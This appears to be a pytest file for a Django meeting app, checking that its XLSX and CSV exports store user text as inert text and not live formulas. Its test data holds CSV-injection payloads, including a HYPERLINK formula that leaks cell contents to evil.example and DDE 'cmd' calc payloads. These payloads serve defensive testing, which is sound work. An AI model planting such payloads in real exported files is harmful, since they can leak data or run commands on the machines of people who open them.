"""Register exports write user text as text: no formula in the XLSX, no live formula in the CSV.

OWASP's "CSV injection" payloads are planted as descriptions (through the service, as the
admin or the demo loader could) and as a status note (through the list's one-step update, as
the responsible member does), then read back from the files the export views send.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from meetings import services
from meetings.models import ActionItem
from samarbeid.exports import csv_value

PAYLOADS = [
    '=HYPERLINK("http://evil.example/","klikk")',
    '+1+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
]
NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Se notatet")'


@pytest.fixture
def member_client(world, client_for):
    return client_for(world.users["member"])


@pytest.fixture
def planted(world, member_client):
    meeting = services.meeting_plan(
        group=world.steering_group,
        title="Styringsgruppemøte",
        starts_at=datetime.datetime(2026, 10, 20, 11, tzinfo=datetime.UTC),
    )
    case = services.case_add(meeting=meeting, title="Budsjett 2027")
    member = world.users["member"].person
    items = [
        services.action_item_add(
            case=case,
            description=payload,
            responsible_people=[member],
            deadline=datetime.date(2027, 1, 1 + n),
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    noted = items[0]
    response = member_client.post(
        reverse("meetings:action_item_update", args=[noted.pk]),
        {"status": "in_progress", "note": NOTE, "seen_updated_at": noted.updated_at.isoformat()},
    )
    assert response.status_code == 302
    assert ActionItem.objects.get(pk=noted.pk).updates.get().note == NOTE
    return items


def export(client, world, fmt):
    url = reverse("meetings:group_register_export", args=[world.steering_group.pk, fmt])
    response = client.get(url)
    assert response.status_code == 200
    return response


def test_xlsx_has_no_formula_and_keeps_the_text(world, member_client, planted):
    response = export(member_client, world, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert sorted(row[0] for row in rows) == sorted(PAYLOADS)
    by_text = {row[0]: row for row in rows}
    assert by_text[PAYLOADS[0]][9] == NOTE
    # Dates stay dates, so the reader can sort and filter on them.
    assert by_text[PAYLOADS[0]][2] == datetime.datetime(2027, 1, 1)


def test_csv_quotes_every_field_and_defuses_formulas(world, member_client, planted):
    response = export(member_client, world, "csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + p for p in PAYLOADS)
    by_text = {row[0]: row for row in rows[1:]}
    assert by_text["'" + PAYLOADS[0]][9] == "'" + NOTE
    assert by_text["'" + PAYLOADS[0]][2] == "01.01.2027"
    # Every field quoted: each record starts with a quote, and no field stands bare.
    assert all(line.startswith('"') for line in text.split("\r\n") if line)
    assert ';"' in text and ";;" not in text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+47 900 00 000", "'+47 900 00 000"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Merete sjekker = dette", "Merete sjekker = dette"),
        ("", ""),
        (None, ""),
        (datetime.date(2027, 3, 13), "13.03.2027"),
    ],
)
def test_csv_value(value, written):
    assert csv_value(value) == written


def test_a_control_character_in_a_note_does_not_break_the_xlsx(world, member_client, planted):
    services.action_item_follow_up(item=planted[1], status="done", note="Ferdig\x0b i dag")
    response = export(member_client, world, "xlsx")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert "Ferdig i dag" in [row[9] for row in rows]
